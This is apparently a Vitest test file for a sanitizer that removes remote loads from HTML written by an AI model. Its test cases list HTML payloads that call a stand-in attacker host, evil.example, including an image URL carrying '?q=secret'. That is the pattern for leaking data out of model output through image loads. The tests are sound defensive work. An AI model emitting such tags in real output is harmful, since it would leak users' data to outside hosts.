import { describe, expect, it } from 'vitest';
import { withoutRemoteLoads } from '../../src/threads/remoteloads';

describe('what a model writes loads nothing from elsewhere', () => {
  it.each([
    ['<img src="https://evil.example/?q=secret" alt="chart">'],
    ['<img src="//evil.example/x">'],
    ['<img srcset="https://evil.example/1 1x" src="data:image/png;base64,AA==">'],
    ['<p style="background: url(https://evil.example/x)">text</p>'],
    ['<table background="https://evil.example/x"><tr><td>1</td></tr></table>'],
    ['<video src="https://evil.example/v" poster="https://evil.example/p"></video>'],
    [
      '<picture><source srcset="https://evil.example/s"><img src="https://evil.example/i"></picture>'
    ],
    ['<input type="image" src="https://evil.example/x">']
  ])('%s', html => {
    const inert = new DOMParser().parseFromString(withoutRemoteLoads(html), 'text/html');
    const loads = inert.querySelectorAll(
      '[src*="evil"], [srcset*="evil"], [poster*="evil"], [style*="evil"], [background*="evil"]'
    );
    expect(loads).toHaveLength(0);
  });

  it('leaves a link in the place of an image, so that the person may follow it', () => {
    const html = withoutRemoteLoads('<p><img src="https://a.example/x.png" alt="chart"></p>');
    expect(html).toContain('href="https://a.example/x.png"');
    expect(html).toContain('>chart</a>');
  });

  it('keeps images that are in the text itself', () => {
    const html = '<p><img src="data:image/png;base64,AA=="></p>';
    expect(withoutRemoteLoads(html)).toBe(html);
  });

  it('leaves everything else as it was', () => {
    const html =
      '<h1>Title</h1><p>an <code>img</code> and <a href="https://a.example">a link</a></p>';
    expect(withoutRemoteLoads(html)).toBe(html);
  });
});
